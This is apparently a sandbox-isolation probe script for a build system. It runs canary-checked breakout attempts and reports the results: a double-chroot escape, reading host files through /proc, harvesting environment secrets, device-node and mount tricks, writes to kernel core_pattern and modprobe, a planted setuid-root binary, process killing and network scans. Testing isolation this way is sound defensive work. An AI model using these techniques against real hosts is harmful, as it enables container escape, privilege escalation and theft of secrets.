"""What a hostile RUN step tries. order.json names the host's canaries; each line of output is `PROBE name value`."""

import glob
import json
import os
import signal
import subprocess

from dial import say, scan
from kernel import attempt, call, node, read, write

order = json.load(open("/probe/order.json"))


def tell(name, value):
    print("PROBE", name, json.dumps(value), flush=True)


def host_files():
    """Every way to a path of the host that leads around the build's root."""
    roots = ["", "/..", "/host", "/.host", "/mnt", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/.."]
    roots += glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*")
    texts = [read(root + path) for root in roots for path in order["files"]]
    return [text for text in texts if order["secret"] in text]


def environments():
    texts = [read(path) for path in glob.glob("/proc/[0-9]*/environ")] + [json.dumps(dict(os.environ))]
    return [text for text in texts if order["secret"] in text]


def escape():
    """A second chroot below the working directory, then up."""
    os.makedirs("/tmp/cell", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/cell")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return [read(path) for path in order["files"]]


def in_child(work):
    """What `work` gives in a process of its own."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.write(writing, json.dumps(attempt(work)).encode())
        os._exit(0)
    os.close(writing)
    os.wait()
    return json.loads(os.read(reading, 65536) or b"null")


def mounts():
    tried = [(b"t", b"/mnt", b"tmpfs", 0), (b"p", b"/mnt", b"proc", 0), (b"/proc/1/root", b"/mnt", None, 4096 | 16384)]
    tried += [(b"d", b"/mnt", b"devtmpfs", 0), (b"s", b"/mnt", b"sysfs", 0), (None, b"/proc/sys", None, 32 | 4096)]
    return [call("mount", *one, None) for one in tried] + [call("unshare", 0x20000), call("umount2", b"/proc", 2)]


def nodes():
    disks = [("b", 254, 0), ("b", 8, 0), ("b", 253, 0), ("b", 259, 0), ("c", 1, 1), ("c", 1, 2), ("c", 10, 232)]
    return [node(place + "/node", *one, os.O_RDONLY) for place in ("/dev", "/tmp", "/") for one in disks]


def kill_others():
    """Everybody who can be seen, but not this build itself."""
    own = {os.getpid(), os.getppid(), 1}
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if order["sentinel"] in read(f"/proc/{pid}/cmdline"):
            return "seen"
    return [attempt(lambda: os.kill(pid, signal.SIGKILL)) for pid in order["pids"] if pid not in own]


def kernel():
    names = ["core_pattern", "modprobe", "hostname", "panic", "sysrq"]
    tried = [write(f"/proc/sys/kernel/{name}", order["secret"]) for name in names]
    return tried + [call("sethostname", b"evil", 4), call("init_module", b"x", 1, b""), call("kexec_load", 0, 0, 0, 0)]


def private_marks():
    """A file that would be root's for whoever finds it on the host."""
    with open("/bin/marked-setuid", "wb") as file:
        file.write(open("/bin/cat", "rb").read())
    os.chmod("/bin/marked-setuid", 0o6755)
    return attempt(lambda: os.setxattr("/bin/marked-setuid", "security.capability", bytes.fromhex("0100000202000000" + "0" * 24)))


tell("files", host_files())
tell("environments", environments())
tell("links", [text for path in glob.glob("/links/*") if order["secret"] in (text := read(path))])
tell("scan", scan([(address, port) for address in order["addresses"] for port in order["ports"]], 2))
tell("datagrams", [say(address, order["ports"][0], "forbidden", 0.2) for address in order["addresses"]])
tell("nodes", nodes())
tell("mounts", in_child(mounts))
tell("kernel", kernel())
tell("kills", kill_others())
tell("marks", private_marks())
tell("escape", [text for text in in_child(escape) if order["secret"] in text])
subprocess.run(["printf", r"\033[2J\033]0;owned\007--- taking the snapshot\r\n"])
tell("end", 1)
